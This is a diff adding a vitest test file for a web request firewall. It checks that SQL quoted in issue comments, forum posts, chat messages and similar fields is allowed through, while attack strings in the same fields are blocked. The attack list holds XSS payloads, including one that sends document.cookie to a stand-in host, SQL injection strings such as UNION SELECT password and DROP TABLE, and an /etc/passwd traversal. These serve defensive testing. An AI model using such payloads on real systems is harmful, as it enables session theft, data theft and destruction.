@@ -1,0 +1,80 @@
+/**
+ * The tech-discussion family's carriers through the full pipeline (bundled rules + the shipped model,
+ * `warden eval`): code quoted in them passes, and attacks placed in the same fields — stored XSS in a
+ * comment, SQL injection in a search or title, an injection hidden in a code span or written to pass for a
+ * whole statement — are still blocked.
+ */
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { main } from '../../src/cli/main.js';
+
+type Carrier = (value: string) => { method: string; path: string; query: string; headers: Record<string, string>; body?: string };
+
+const json = (path: string, body: (v: string) => unknown, method = 'POST'): Carrier => (v) => ({ method, path, query: '', headers: { Host: 'app.example.com', 'Content-Type': 'application/json' }, body: JSON.stringify(body(v)) });
+const form = (path: string, fields: (v: string) => [string, string][]): Carrier => (v) => ({ method: 'POST', path, query: '', headers: { Host: 'forum.example.org', 'Content-Type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams(fields(v)).toString() });
+const get = (path: string, name: string): Carrier => (v) => ({ method: 'GET', path, query: `${name}=${encodeURIComponent(v)}&limit=100`, headers: { Host: 'grafana.example.io' } });
+
+const CARRIERS: Record<string, Carrier> = {
+  'issue comment': json('/api/v3/repos/acme/api/issues/7/comments', (v) => ({ body: v })),
+  'forum post title': json('/posts.json', (v) => ({ title: v, raw: 'Any idea?', category: 3 })),
+  'Q&A form': form('/questions/ask', (v) => [['title', 'Slow query'], ['post-text', v], ['tagnames', 'sql bash']]),
+  'chat message': json('/api/chat.postMessage', (v) => ({ channel: 'C0123ABCD', text: v })),
+  'gist file': json('/api/v3/gists', (v) => ({ description: 'notes', public: false, files: { 'query.sql': { content: v } } })),
+  'CMS post': json('/wp-json/wp/v2/posts', (v) => ({ title: 'Notes', content: `<!-- wp:paragraph -->\n<p>${v}</p>\n<!-- /wp:paragraph -->`, status: 'draft' })),
+  'log search': get('/loki/api/v1/query_range', 'query'),
+  'site search': get('/search', 'q'),
+};
+
+const BENIGN: [string, string][] = [
+  ['issue comment', "Why is this slow?\n\n```sql\nSELECT o.id, c.email FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.status = 'paid' ORDER BY o.id DESC LIMIT 20;\n```"],
+  ['forum post title', 'Quick question: does `SELECT count(*) FROM orders` lock the table?'],
+  ['Q&A form', "```sql\nSELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'orders' ORDER BY ordinal_position;\n```"],
+  ['chat message', "fwiw we run ```SELECT table_name FROM information_schema.tables WHERE table_schema = 'app';```"],
+  ['gist file', "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public';"],
+  ['CMS post', 'New arrivals every Monday.'],
+];
+
+const ATTACKS: [string, string][] = [
+  ['issue comment', '<script>fetch("https://x.example/c?"+document.cookie)</script>'],
+  ['issue comment', 'Nice post <img src=x onerror=alert(document.domain)>'],
+  ['issue comment', 'see `<script>alert(1)</script>`'],
+  ['forum post title', "x' UNION SELECT username, password FROM users--"],
+  ['forum post title', "`' OR '1'='1' --`"],
+  ['forum post title', "`SELECT 1 WHERE a = ' UNION SELECT password FROM users WHERE b = '`"],
+  ['Q&A form', "'; DROP TABLE users; --"],
+  ['Q&A form', '<svg/onload=alert(1)>'],
+  ['chat message', "```'; DROP TABLE users; --```"],
+  ['gist file', "1' AND SLEEP(5)#"],
+  ['CMS post', '<img src=x onerror=alert(1)>'],
+  ['CMS post', '<script>alert(document.cookie)</script>'],
+  ['log search', "x' UNION SELECT password FROM users--"],
+  ['log search', '../../../../etc/passwd'],
+  ['site search', "1' OR '1'='1"],
+  ['site search', '"><script>alert(1)</script>'],
+];
+
+async function verdicts(rows: [string, string][], label: 'benign' | 'attack'): Promise<Map<string, string>> {
+  const dir = mkdtempSync(join(tmpdir(), 'warden-carriers-'));
+  const file = join(dir, 'corpus.ndjson');
+  const records = rows.map(([carrier, value], i) => ({ id: `${label}-${i}: ${carrier}: ${value}`, source: 'unit', label, category: carrier, ...CARRIERS[carrier](value) }));
+  writeFileSync(file, `${records.map((r) => JSON.stringify(r)).join('\n')}\n`);
+  const config = join(dir, 'warden.yaml');
+  writeFileSync(config, 'inspection: { cpuBudgetMs: 60000 }\n');
+  const out: string[] = [];
+  expect(await main(['eval', '--corpus', file, '--config', config, '--per-request'], { out: (s) => out.push(s), err: () => {} })).toBe(0);
+  return new Map(out.map((l) => JSON.parse(l) as { id: string; verdict: string }).map((v) => [v.id, v.verdict]));
+}
+
+describe('the tech-discussion carriers through the full pipeline', () => {
+  it('lets code quoted in them pass', async () => {
+    const v = await verdicts(BENIGN, 'benign');
+    expect([...v].filter(([, verdict]) => verdict !== 'allow').map(([id]) => id)).toEqual([]);
+  }, 60_000);
+
+  it('still blocks attacks placed in the same fields', async () => {
+    const v = await verdicts(ATTACKS, 'attack');
+    expect([...v].filter(([, verdict]) => verdict !== 'block').map(([id]) => id)).toEqual([]);
+  }, 60_000);
+});
